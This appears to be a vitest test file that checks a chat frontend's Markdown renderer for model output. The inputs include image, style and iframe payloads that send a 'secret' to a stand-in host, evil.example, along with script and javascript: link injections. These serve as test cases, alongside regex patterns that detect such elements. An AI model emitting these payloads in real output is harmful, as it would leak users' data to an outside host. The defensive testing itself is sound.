import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import Markdown from "../../frontend/src/chat/markdown.tsx";

const rendered = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));

describe("a model's Markdown", () => {
  it.each([
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    '<img src="https://evil.example/?q=secret">',
    '<picture><source srcset="//evil.example/?q=secret"></picture>',
    "<style>@import url(https://evil.example/?q=secret)</style>",
    '<iframe src="https://evil.example"></iframe><script>alert(1)</script>',
    "[![x](https://evil.example/?q=secret)](https://good.example)",
  ])("Markdown renders no element that loads by itself: %s", (text) => {
    expect(rendered(text)).not.toMatch(
      /<(img|picture|source|style|iframe|script|link|object|embed|video|audio|svg)\b/i,
    );
    expect(rendered(text)).not.toMatch(/<[^>]*\s(src|srcset|style|on\w+)=/i);
  });

  it.each(["[x](javascript:alert(1))", "[x](data:text/html,<b>)", "[x](vbscript:x)", "<javascript:alert(1)>"])(
    "Markdown renders no link that runs code: %s",
    (text) => {
      expect(rendered(text)).not.toMatch(/href="(javascript|data|vbscript)/i);
    },
  );

  it("Markdown opens a link in a new tab, without a referrer", () => {
    expect(rendered("[x](https://good.example/a)")).toContain(
      '<a href="https://good.example/a" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it.each([
    "[x](#top)",
    "[x](vscode://file/a)",
    "[x](/about)",
    "[x]()",
    "[x](../../secrets.txt)",
    "see[^1]\n\n[^1]: note",
  ])("Markdown renders no link to a page of the workspace that does not exist: %s", (text) => {
    expect(rendered(text)).not.toContain("<a ");
  });

  it("Markdown renders tables, tasks and code", () => {
    const html = rendered("| a |\n|---|\n| `b` |\n\n- [x] done\n\n```ts\nconst a = 1 < 2;\n```");
    for (const part of ["<table>", "<code>b</code>", 'type="checkbox"', "1 &lt; 2"]) expect(html).toContain(part);
  });
});
